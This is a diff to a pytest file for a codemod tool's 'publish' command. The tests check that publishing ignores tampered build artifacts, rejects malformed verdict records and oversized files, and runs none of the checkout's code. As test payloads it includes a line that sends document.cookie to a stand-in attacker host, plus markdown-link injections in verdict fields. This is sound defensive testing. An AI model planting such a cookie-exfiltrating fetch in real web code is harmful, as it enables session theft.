@@ -1,6 +1,8 @@
-"""The publishing side (codemods/publish.py, `mesh-codemod publish`): the
-build job's artifact is pushed only when it holds the tool's own work, and
-the module imports nothing that starts a process of the checkout."""
+"""The publishing side (codemods/publish/, `mesh-codemod publish`): it
+rebuilds the series on the build job's base and pushes its own commits;
+from the artifact it takes only the base, the verdict, the choice and a
+formatter's layout; it imports nothing that starts a process of the
+checkout, and at run time starts nothing but git and gh."""
 
 from __future__ import annotations
 
@@ -13,14 +15,10 @@ from pathlib import Path
 import pytest
 
 from .gitrepo import BOT, git, with_remote
+from .publish_support import (
+    BRANCH, EVIL, MODULE, append, build, holds, manifest, publish, publisher, tampered, write_manifest,
+)
 from .support import ROOT, invoke
-
-BRANCH = "codemod/app-state"
-MODULE = "apps/mesh/src/mcp-apps/app-state.ts"
-BOT_ENV = {
-    "GIT_AUTHOR_NAME": "Codemod Bot", "GIT_AUTHOR_EMAIL": "bot@example.com",
-    "GIT_COMMITTER_NAME": "Codemod Bot", "GIT_COMMITTER_EMAIL": "bot@example.com",
-}
 
 
 def test_the_publishing_side_imports_nothing_that_runs_the_checkouts_code() -> None:
@@ -35,33 +33,13 @@ def test_the_publishing_side_imports_nothing_that_runs_the_checkouts_code() -> N
     assert not {m for m in loaded if m.startswith("codemods.checks")}, loaded
 
 
-def _build(tmp_path: Path, work: Path, *extra: str) -> Path:
-    """The build job: the branch and its artifact, no push, no token."""
-    artifact = tmp_path / "artifact"
-    result = invoke("pr", "--repo", work, "--branch", BRANCH, "--author", BOT, "--no-verify",
-                    "--artifact", artifact, *extra)
-    assert result.exit_code == 0, result.output
-    return artifact
-
-
-def _publisher(tmp_path: Path, remote: Path) -> Path:
-    """The publish job's checkout: a fresh clone, nothing installed."""
-    clone = tmp_path / "publisher"
-    git(tmp_path, "clone", "-q", str(remote), str(clone))
-    return clone
-
-
-def _publish(clone: Path, artifact: Path, *extra: str):
-    return invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH,
-                  "--target", "origin/main", "--push", "origin", "--author", BOT, *extra)
-
-
-def test_publish_pushes_the_tools_own_work_and_runs_nothing_of_the_checkout(tmp_path: Path) -> None:
+def test_publish_pushes_its_own_series_and_runs_nothing_of_the_checkout(tmp_path: Path) -> None:
     remote, work = with_remote(tmp_path)
-    artifact = _build(tmp_path, work)
-    manifest = json.loads((artifact / "manifest.json").read_text())
-    assert manifest["digest"].startswith("sha256:") and manifest["branch"] == BRANCH
-    clone = _publisher(tmp_path, remote)
+    artifact = build(tmp_path, work)
+    data = manifest(artifact)
+    assert data["format"] == 2 and data["branch"] == BRANCH
+    assert data["verdict"]["fingerprint"].startswith("sha256:") and data["verdict"]["checks"] == []
+    clone = publisher(tmp_path, remote)
     # a checkout whose tools would run if anything started them
     (clone / "node_modules/.bin").mkdir(parents=True)
     for tool in ("biome", "bun", "oxlint", "tsc", "prettier", "npm"):
@@ -69,50 +47,19 @@ def test_publish_pushes_the_tools_own_work_and_runs_nothing_of_the_checkout(tmp_
         (clone / "node_modules/.bin" / tool).chmod(0o755)
     (clone / "json.py").write_text(f"open({str(tmp_path / 'RAN-json-py')!r}, 'w')\n")
     report = tmp_path / "report.json"
-    result = _publish(clone, artifact, "--report-out", report)
+    result = publish(clone, artifact, "--report-out", report)
     assert result.exit_code == 0, result.output
-    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == manifest["tip"]
-    data = json.loads(report.read_text())
-    assert data["push"]["pushed"] is True and data["fingerprint"].startswith("sha256:") and data["commits"]
+    # the same base, identity and date: publish's own commits are the build's, id for id
+    assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == data["tip"]
+    out = json.loads(report.read_text())
+    assert out["push"]["pushed"] is True and out["fingerprint"] == data["verdict"]["fingerprint"] and out["commits"]
+    assert out["verdict"] == {"fingerprint": out["fingerprint"], "checks": []}
+    assert out["body"].rstrip().splitlines()[-1] == f"<!-- mesh-codemod-fingerprint: {out['fingerprint']} -->"
+    assert out["title"] and out["notes"] == []
     assert not list(tmp_path.glob("RAN-*"))
     # a rerun pushes nothing
-    again = _publish(clone, artifact, "--json")
+    again = publish(clone, artifact, "--json")
     assert again.exit_code == 0 and json.loads(again.stdout)["push"]["pushed"] is False
-
-
-def _tampered(work: Path, artifact: Path, change) -> None:
-    """Replace the artifact's last commit with one the tool's identity and
-    trailers made, whose content ``change`` altered; bundle and manifest
-    rebuilt to match, as an attacker in the build job could."""
-    from codemods.deliver import build, repository
-    from codemods.publish import artifact as publish
-
-    tip = git(work, "rev-parse", BRANCH).strip()
-    parent = git(work, "rev-parse", f"{tip}^").strip()
-    git(work, "worktree", "add", "-q", "--detach", str(work.parent / "evil"), tip)
-    evil = work.parent / "evil"
-    change(evil)
-    git(evil, "add", "-A")
-    tree = git(evil, "write-tree").strip()
-    parent_tree = git(work, "rev-parse", f"{parent}^{{tree}}").strip()
-    message = git(work, "log", "-1", "--format=%B", tip).split(build.CONTENT_TRAILER)[0]
-    message += f"{build.CONTENT_TRAILER} {parent_tree}..{tree}\n"
-    sha = subprocess.run(["git", "-C", str(work), "commit-tree", tree, "-p", parent, "-m", message],
-                         env={**os.environ, **BOT_ENV}, capture_output=True, text=True, check=True).stdout.strip()
-    git(work, "update-ref", f"refs/heads/{BRANCH}", sha)
-    manifest = json.loads((artifact / "manifest.json").read_text())
-    (artifact / "branch.bundle").unlink()
-    git(work, "bundle", "create", "-q", str(artifact / "branch.bundle"), f"refs/heads/{BRANCH}", f"^{manifest['base']}")
-    files = {p: b for p, (_, b) in publish._changed_blobs(repository.open_repo(work), manifest["base"], sha).items()}
-    manifest.update(tip=sha, files=files, digest=publish.artifact_digest(manifest["base"], sha, BRANCH, files))
-    (artifact / "manifest.json").write_text(json.dumps(manifest))
-
-
-def _append(path: str, text: str):
-    def change(tree: Path) -> None:
-        with (tree / path).open("a") as handle:
-            handle.write(text)
-    return change
 
 
 def _requote(tree: Path) -> None:
@@ -121,55 +68,138 @@ def _requote(tree: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("change", "refused"),
+    ("change", "kept"),
     [
-        (_append(MODULE, 'fetch("https://attacker.example/" + document.cookie);\n'), "by more than layout"),
-        (_append("apps/mesh/src/extra.ts", "export const x = 1;\n"), "changes apps/mesh/src/extra.ts"),
-        (_requote, None),  # quotes are layout: the formatter's to choose
+        (append(MODULE, f'fetch("https://{EVIL}/" + document.cookie);\n'), "noted"),
+        (append("apps/mesh/src/extra.ts", f'export const x = "{EVIL}";\n'), "ignored"),
+        (append(MODULE, f"// {EVIL}\n"), "noted"),  # a comment is meaning, not layout
+        (_requote, "kept"),  # quotes are layout: the formatter's to choose
     ],
-    ids=["a-line-added", "another-file", "layout-only"],
+    ids=["a-line-added", "another-file", "a-comment-added", "layout-only"],
 )
-def test_publish_refuses_anything_beyond_layout(tmp_path: Path, change, refused: str | None) -> None:
+def test_publish_pushes_its_own_series_whatever_the_bundle_holds(tmp_path: Path, change, kept: str) -> None:
     remote, work = with_remote(tmp_path)
-    artifact = _build(tmp_path, work)
-    _tampered(work, artifact, change)
-    clone = _publisher(tmp_path, remote)
-    result = _publish(clone, artifact)
-    if refused is None:
-        assert result.exit_code == 0, result.output
-        assert git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip() == json.loads(
-            (artifact / "manifest.json").read_text())["tip"]
-        return
-    assert result.exit_code == 3, result.output
-    assert refused in result.stderr
-    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+    artifact = build(tmp_path, work)
+    honest = manifest(artifact)["tip"]
+    tampered(work, artifact, change)
+    clone = publisher(tmp_path, remote)
+    report = tmp_path / "report.json"
+    result = publish(clone, artifact, "--report-out", report)
+    assert result.exit_code == 0, result.output
+    pushed = git(remote, "rev-parse", f"refs/heads/{BRANCH}").strip()
+    assert not holds(remote, EVIL.encode())
+    notes = json.loads(report.read_text())["notes"]
+    if kept == "kept":  # the formatter's layout is taken: the remote's file is the requoted one
+        assert "'" in git(remote, "show", f"{pushed}:{MODULE}") and notes == []
+    else:
+        assert pushed == honest
+        # a file the tool changes says its layout was not taken; another file is not read at all
+        assert any(MODULE in n and "not used" in n for n in notes) == (kept == "noted"), notes
 
 
-def test_publish_refuses_another_author_and_a_base_the_target_lacks(tmp_path: Path) -> None:
+def test_publish_refuses_a_base_the_target_lacks(tmp_path: Path) -> None:
     remote, work = with_remote(tmp_path)
-    artifact = _build(tmp_path, work)
-    clone = _publisher(tmp_path, remote)
-    other = invoke("publish", "--repo", clone, "--artifact", artifact, "--branch", BRANCH,
-                   "--target", "origin/main", "--push", "origin", "--author", "Mallory <m@example.com>")
-    assert other.exit_code == 3 and "authored by Codemod Bot" in other.stderr
-    # a base that is not a commit of the target: a side branch of the build's
+    clone = publisher(tmp_path, remote)
     (work / "side.txt").write_text("side\n")
     git(work, "add", "-A")
     git(work, "commit", "-q", "-m", "side")
     git(work, "push", "-q", "origin", "HEAD:refs/heads/side")
-    side = _build(tmp_path / "side", work)
+    side = build(tmp_path / "side", work)
     git(clone, "fetch", "-q", "origin")
-    result = _publish(clone, side)
+    result = publish(clone, side)
     assert result.exit_code == 3 and "is not a commit of origin/main" in result.stderr
     assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
 
 
+def test_a_verdict_counts_only_for_the_series_it_names(tmp_path: Path) -> None:
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    data = manifest(artifact)
+    clone = publisher(tmp_path, remote)
+    # a verdict of passed checks, for another series
+    data["verdict"] = {"fingerprint": "sha256:" + "0" * 64, "checks": [{"name": "tests", "status": "passed"}]}
+    write_manifest(artifact, data)
+    report = tmp_path / "report.json"
+    assert publish(clone, artifact, "--report-out", report).exit_code == 0
+    out = json.loads(report.read_text())
+    assert out["verdict"] is None and any("counts for nothing" in n for n in out["notes"])
+    assert "No verdict of the checks for this change" in out["body"] and "| tests | passed |" not in out["body"]
+    # bound to this series: rendered, by name and status only
+    data["verdict"] = {"fingerprint": out["fingerprint"], "checks": [{"name": "tests", "status": "passed"}]}
+    write_manifest(artifact, data)
+    assert publish(clone, artifact, "--report-out", report).exit_code == 0
+    assert "| tests | passed |" in json.loads(report.read_text())["body"]
+
+
+@pytest.mark.parametrize(
+    ("verdict", "refused"),
+    [
+        ({"checks": [{"name": "tests", "status": "passed", "summary": f"[x](https://{EVIL})"}]}, "is not {name, status}"),
+        ({"checks": [{"name": f"# {EVIL}", "status": "passed"}]}, "is not a word"),
+        ({"checks": [{"name": "tests", "status": "fine"}]}, "status is not one of"),
+        ({"checks": [{"name": "tests", "status": "failed"}]}, "checks failed (tests)"),
+        ({"body": "hello"}, "is not {fingerprint, checks}"),
+    ],
+    ids=["free-text", "a-name-with-markdown", "an-unknown-status", "a-failed-check", "another-record"],
+)
+def test_a_verdict_is_a_closed_record(tmp_path: Path, verdict: dict, refused: str) -> None:
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    data = manifest(artifact)
+    data["verdict"] = {"fingerprint": data["verdict"]["fingerprint"], **verdict}
+    if "body" in verdict:
+        data["verdict"] = verdict
+    write_manifest(artifact, data)
+    clone = publisher(tmp_path, remote)
+    result = publish(clone, artifact)
+    assert result.exit_code == 3 and refused in result.stderr, result.output
+    assert EVIL not in result.output
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+
+
+def test_artifact_files_over_their_limit_are_refused_unread(tmp_path: Path) -> None:
+    from codemods.publish import artifact as publishing
+
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    clone = publisher(tmp_path, remote)
+    data = manifest(artifact)
+    data["padding"] = " " * publishing.MAX_MANIFEST
+    write_manifest(artifact, data)
+    result = publish(clone, artifact)
+    assert result.exit_code == 3 and "over the limit of 65536 bytes" in result.stderr
+    data.pop("padding")
+    write_manifest(artifact, data)
+    with (artifact / "branch.bundle").open("ab") as handle:
+        handle.truncate(publishing.MAX_BUNDLE + 1)
+    result = publish(clone, artifact)
+    assert result.exit_code == 3 and "branch.bundle" in result.stderr and "over the limit" in result.stderr
+
+
+def test_skip_is_read_from_the_target_branch_not_only_the_base(tmp_path: Path) -> None:
+    """The build job chose an older base; main has since skipped every
+    step: publish proposes nothing."""
+    remote, work = with_remote(tmp_path)
+    artifact = build(tmp_path, work)
+    (work / ".mesh-codemod.toml").write_text('skip = ["*"]\n')
+    git(work, "add", "-A")
+    git(work, "commit", "-q", "-m", "opt out")
+    git(work, "push", "-q", "origin", "HEAD:main")
+    clone = publisher(tmp_path, remote)
+    report = tmp_path / "report.json"
+    result = publish(clone, artifact, "--report-out", report)
+    assert result.exit_code == 0, result.output
+    out = json.loads(report.read_text())
+    assert out.get("nothing_to_do") is True and out["commits"] == []
+    assert git(remote, "for-each-ref", f"refs/heads/{BRANCH}") == ""
+
+
 def test_a_publish_run_loads_nothing_that_runs_the_checkouts_code(tmp_path: Path) -> None:
-    """Not only the imports: a whole `mesh-codemod publish` (check and
+    """Not only the imports: a whole `mesh-codemod publish` (rebuild and
     push) never loads the modules that start the checkout's processes."""
     remote, work = with_remote(tmp_path)
-    artifact = _build(tmp_path, work)
-    clone = _publisher(tmp_path, remote)
+    artifact = build(tmp_path, work)
+    clone = publisher(tmp_path, remote)
     code = (
         "import sys\nfrom codemods.cli.app import app\n"
         "try:\n    app()\nexcept SystemExit as done:\n    print('exit', done.code)\n"
